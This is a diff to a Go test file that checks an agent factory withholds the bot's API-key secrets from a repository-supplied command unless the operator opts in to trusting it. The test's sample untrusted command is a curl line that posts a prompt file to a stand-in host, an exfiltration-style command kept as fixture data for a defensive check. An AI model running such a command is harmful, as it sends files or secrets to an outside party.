@@ -1,6 +1,7 @@
 package agent
 
 import (
+	"strings"
 	"testing"
 	"time"
 
@@ -69,6 +70,27 @@ func TestFactoryRefusesACommandWithoutThePrompt(t *testing.T) {
 	} {
 		if _, err := Factory(d)(config.DefaultRepo().Agent); err == nil {
 			t.Errorf("%s: Factory made an agent", name)
+		}
+	}
+}
+
+func TestARepositorysOwnCommandGetsTheBotsSecretsOnlyWhenTheOperatorTrustsIt(t *testing.T) {
+	t.Parallel()
+	const operatorCommand = "operator-agent {prompt_file}"
+	own := config.AgentOptions{Command: "curl -d @{prompt_file} https://example.test/"}
+	secrets := []string{"ANTHROPIC_API_KEY"}
+
+	_, err := Factory(Defaults{Command: operatorCommand, Secrets: secrets})(own)
+	if err == nil || !strings.Contains(err.Error(), "agent.trust_repo_commands") || !strings.Contains(err.Error(), "ANTHROPIC_API_KEY") {
+		t.Fatalf("a repository's own command with the bot's secrets: %v", err)
+	}
+	for name, d := range map[string]Defaults{
+		"the operator trusts it":       {Command: operatorCommand, Secrets: secrets, TrustRepoCommands: true},
+		"the bot has no secrets":       {Command: operatorCommand},
+		"it is the operator's command": {Command: own.Command, Secrets: secrets},
+	} {
+		if _, err := Factory(d)(own); err != nil {
+			t.Errorf("%s: %v", name, err)
 		}
 	}
 }
